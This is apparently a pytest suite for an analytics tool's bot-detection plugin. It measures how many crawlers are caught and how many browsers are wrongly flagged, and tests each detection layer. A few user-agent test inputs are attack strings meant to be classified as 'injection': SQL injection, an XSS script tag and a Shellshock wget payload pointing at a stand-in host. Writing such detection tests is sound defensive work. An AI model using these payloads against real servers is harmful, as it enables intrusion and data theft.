"""Bot detection: each layer, and the rates on labelled real-world user agents."""

from __future__ import annotations

from collections import Counter

import crawleruseragents
import pytest

from ferrite import PluginError
from ferrite.plugins.bots import ALL_LAYERS, Bots, Settings, human_view
from ferrite.plugins.useragent import Settings as UaSettings
from ferrite.plugins.useragent import UserAgents
from ferrite.testing import DESKTOP_CHROME, GOOGLEBOT, make_hit, run_chain

from . import bot_corpora
from .conftest import DATA

AGENTS = UserAgents(UaSettings())


def lines(name: str) -> list[str]:
    return [line for line in (DATA / "bots" / name).read_text().splitlines() if line]


def reason(bots: Bots, ua: str = DESKTOP_CHROME, **hit) -> str | None:
    return bots.ferrite_bot_reason(hit=make_hit(user_agent=ua, **hit), agent=AGENTS.summarize(ua))


@pytest.fixture(scope="module")
def bots() -> Bots:
    return Bots(Settings())


def rates(bots: Bots) -> tuple[float, float, float]:
    crawlers = lines("crawlers.txt")
    listed = sorted({i for d in crawleruseragents.CRAWLER_USER_AGENTS_DATA
                     for i in d.get("instances", [])})
    browsers = lines("browsers.txt")
    caught = sum(1 for ua in crawlers if reason(bots, ua)) / len(crawlers)
    caught_listed = sum(1 for ua in listed if reason(bots, ua)) / len(listed)
    flagged = sum(1 for ua in browsers if reason(bots, ua)) / len(browsers)
    return caught, caught_listed, flagged


def test_labelled_rates_meet_the_targets(bots, capsys):
    caught, caught_listed, flagged = rates(bots)
    with capsys.disabled():
        print(f"\nbots: crawlers caught {caught:.2%} (independent sample), "
              f"{caught_listed:.2%} (crawler-user-agents instances); "
              f"browsers flagged {flagged:.2%}")
    assert caught >= 0.99
    assert caught_listed >= 0.99
    assert flagged <= 0.005


def share(bots: Bots, uas: list[str]) -> float:
    return sum(1 for ua in uas if reason(bots, ua)) / len(uas)


@pytest.mark.slow
def test_held_out_corpus_crawlerdetect(bots, capsys):
    """CrawlerDetect's fixtures were not looked at while writing the heuristics: all 165k
    people; its robots are measured without the CrawlerDetect list, since that list was
    made from them."""
    corpus = bot_corpora.load("crawlerdetect")
    people = share(bots, corpus.humans)
    without_own_list = Bots(Settings(layers=[x for x in ALL_LAYERS if x != "crawler_detect"]))
    robots = share(without_own_list, corpus.robots)
    with capsys.disabled():
        print(f"\ncrawlerdetect (held out): people flagged {people:.2%}, robots caught "
              f"{robots:.2%} without its own list")
    assert people <= 0.005
    assert robots >= 0.95


@pytest.mark.slow
def test_matomo_corpus(bots, capsys):
    """Matomo's fixtures cover smart TVs, consoles, in-app browsers and niche clients; the
    heuristics were tuned on them, so this guards against regressions, not a claim."""
    corpus = bot_corpora.load("matomo")
    people = share(bots, corpus.humans)
    robots = share(bots, corpus.robots)
    with capsys.disabled():
        print(f"\nmatomo (tuned on): people flagged {people:.2%}, robots caught {robots:.2%}")
    assert people <= 0.005
    assert robots >= 0.99


def test_held_out_real_traffic_browsers_are_people(bots):
    corpus = bot_corpora.load("user-agents")
    assert share(bots, corpus.humans) == 0


@pytest.mark.parametrize("ua", [
    # Android WebView, in-app browsers, Electron apps
    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 16; SM-F966N; BP2A.250605.031.A3; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/145.0.7632.120 Mobile Safari/537.36 Viber/25.1.0.5",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Slack/4.36.140 Chrome/120.0.6099.56 Electron/28.0.0 Safari/537.36 Sonic Slack_SSB/4.36.140",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Code/1.85.1 Chrome/114.0.5735.289 Electron/25.9.7 Safari/537.36",
    # app HTTP clients
    "Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F Build/RP1A.200720.012)",
    "Podcasts/1.0 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Slack/396839 CFNetwork/889.9 Darwin/17.2.0",
    # smart TVs and set-top boxes
    "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "69.0.3497.106.1/6.0 TV Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; AFTKA Build/PS7633.3445N; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.196 Mobile Safari/537.36",
    "Roku/DVP-9.10 (519.10E04111A)",
    # old and niche browsers
    "AmigaVoyager/3.2 (AmigaOS/MC680x0)",
    "IBrowse/2.4 (AmigaOS 3.9; 68K)",
    "Opera/9.80 (Linux armv7l; U; en) Presto/2.12.407 Version/12.50",
    "Links (2.1pre23; Linux 3.5.0 i686; 237x63)",
    # phones whose model says "bot"
    "Mozilla/5.0 (Linux; Android 6.0; CUBOT DINOSAUR Build/MRA58K) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/56.0.2924.87 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 7.0; M bot 60 Build/NRD90M; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/67.0.3396.87 Mobile Safari/537.36",
])
def test_people_the_old_layers_filtered(bots, ua):
    assert reason(bots, ua) is None


@pytest.mark.parametrize(("ua", "expected"), [
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Search "
     "Console) Chrome/41.0.2272.118 Safari/537.36", "service"),
    ("Mozilla/5.0 (Linux; Android 4.2.1; en-us; Nexus 5 Build/JOP40D) AppleWebKit/535.19 "
     "(KHTML, like Gecko; googleweblight) Chrome/38.0.1025.166 Mobile Safari/535.19", "service"),
    ("Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0) "
     "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.131 Mobile Safari/537.36",
     "service"),
    ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; baidu Transcoder;)", "service"),
    ("Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/30.0.1599.69 Safari/537.36 Webthumb/2.0", "service"),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:38.0; Neustar WPM) Gecko/20100101 Firefox/38.0",
     "service"),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "spider"),
    ("Mozilla/5.0 (compatible; Site24x7)", "service"),
    ("Mozilla/5.0' AND SLEEP(5)-- -", "injection"),
    ("Mozilla/5.0 (Windows NT 10.0) UNION SELECT password FROM users", "injection"),
    ("<script>alert(1)</script>", "injection"),
    ("() { :; }; /bin/bash -c 'wget http://x/y'", "injection"),
    ("Hello, world", "unrecognized"),
    ("Arachni/v1.5.1", "unrecognized"),
])
def test_robots_the_old_layers_missed(bots, ua, expected):
    assert reason(bots, ua) == expected


def test_human_view_cuts_device_and_app_tokens():
    ua = ("Mozilla/5.0 (Linux; Android 6.0; B BOT 550 Build/MRA58K; wv) AppleWebKit/537.36 "
          "(KHTML, like Gecko) Version/4.0 Chrome/53.0 Mobile Safari/537.36 Viber/20.1")
    view = human_view(ua)
    assert "BOT" not in view and "Viber" not in view
    assert view.startswith("Mozilla/5.0 (Linux; Android 6.0) AppleWebKit")
    # a robot's own token in the Android comment survives
    robot = "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3; DuplexWeb-Google/1.0)"
    assert "DuplexWeb-Google/1.0" in human_view(robot)


def test_layers_other_than_the_lists_still_catch_most_crawlers():
    """How well the heuristics generalise to robots the pattern lists do not know."""
    without_lists = Bots(Settings(layers=[x for x in ALL_LAYERS
                                          if x not in ("crawler_list", "crawler_detect")]))
    listed = sorted({i for d in crawleruseragents.CRAWLER_USER_AGENTS_DATA
                     for i in d.get("instances", [])})
    assert sum(1 for ua in listed if reason(without_lists, ua)) / len(listed) >= 0.9


@pytest.mark.parametrize(("ua", "expected"), [
    (GOOGLEBOT, "spider"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Cypress/13.6.0 Chrome/118.0.5993.159 Electron/27.1.3 Safari/537.36", "automation"),
    ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120 Safari/537.36 "
     "Acme-Uptime-Monitor", "service"),
    ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120 Safari/537.36 "
     "acme-sitemap-generator", "keyword"),
    ("Mozilla/5.0 (compatible; Acme/1.0; +https://acme.example/about)", "contact"),
    ("", "implausible"),
    ("-", "implausible"),
    ("Mozilla/5.0\x00\x01 (evil)", "implausible"),
    ("python-requests/2.31.0", "crawler_list"),
    ("SomeApp 1.0 for Windows", None),
])
def test_user_agent_layers(bots, ua, expected):
    assert reason(bots, ua) == expected


@pytest.mark.parametrize("headers", [
    {"sec-purpose": "prefetch;prerender"},
    {"purpose": "prefetch"},
    {"x-moz": "prefetch"},
    {"x-purpose": "preview"},
])
def test_prefetch_and_preview_headers(bots, headers):
    assert reason(bots, headers=headers) == "prefetch"


def test_headless_client_hint(bots):
    assert reason(bots, headers={"sec-ch-ua": '"HeadlessChrome";v="120"'}) == "automation"


def test_referrer_spam_matches_domain_and_subdomains(bots):
    spam = sorted(bots.spam)[0]
    assert reason(bots, referrer=f"https://{spam}/x?y=1") == "referrer_spam"
    assert reason(bots, referrer=f"http://www.sub.{spam}/") == "referrer_spam"
    assert reason(bots, referrer="https://news.ycombinator.com/") is None


def test_the_shipped_spam_list_is_complete(bots):
    assert len(bots.spam) >= 2300


def test_layers_can_be_switched_off():
    only_spider = Bots(Settings(layers=["spider"]))
    assert reason(only_spider, "python-requests/2.31.0") is None
    assert reason(only_spider, GOOGLEBOT) == "spider"


def test_custom_patterns():
    custom = Bots(Settings(extra_patterns=["InternalProbe/\\d"]))
    ua = DESKTOP_CHROME + " InternalProbe/2"
    assert reason(custom, ua) == "custom"


def test_invalid_custom_pattern_is_a_config_error():
    config = {"pipeline": {"plugins": ["bots"]}, "plugins": {"bots": {"extra_patterns": ["(("]}}}
    with pytest.raises(PluginError, match=r"extra_patterns.*'\(\(' is not a valid regular"):
        run_chain([], config)


def test_unknown_layer_is_a_config_error():
    config = {"pipeline": {"plugins": ["bots"]}, "plugins": {"bots": {"layers": ["vibes"]}}}
    with pytest.raises(PluginError, match="layers.0.*'prefetch', 'referrer_spam', 'implausible'"):
        run_chain([], config)


def test_bots_never_reach_sinks_and_are_counted_by_reason():
    hits = [make_hit(), make_hit(user_agent=GOOGLEBOT),
            make_hit(user_agent="python-requests/2.31.0"),
            make_hit(headers={"x-purpose": "preview"})]
    result = run_chain(hits)
    assert len(result.events) == 1
    assert Counter(e.bot for e in result.bots) == {"spider": 1, "crawler_list": 1, "prefetch": 1}
    assert result.metrics.by_label("discarded", "reason") == {
        "bot:spider": 1, "bot:crawler_list": 1, "bot:prefetch": 1}


@pytest.mark.slow
def test_the_fast_list_matchers_give_the_packages_own_verdicts():
    """RE2 matches the lists (ferrite.plugins.crawler_lists); the verdicts must stay the
    packages' own, on people and robots of every corpus."""
    from crawlerdetect import CrawlerDetect as PackageCrawlerDetect

    from ferrite.plugins.crawler_lists import CrawlerDetect, CrawlerUserAgents

    ours_cd, ours_cua, theirs_cd = CrawlerDetect(), CrawlerUserAgents(), PackageCrawlerDetect()
    for name in bot_corpora.ALL:
        corpus = bot_corpora.load(name)
        sample = corpus.humans[::40] + corpus.robots
        assert [ours_cd.is_crawler(ua) for ua in sample] == \
            [theirs_cd.is_crawler(ua) for ua in sample], name
        assert [ours_cua.is_crawler(ua) for ua in sample] == \
            [crawleruseragents.is_crawler(ua) for ua in sample], name
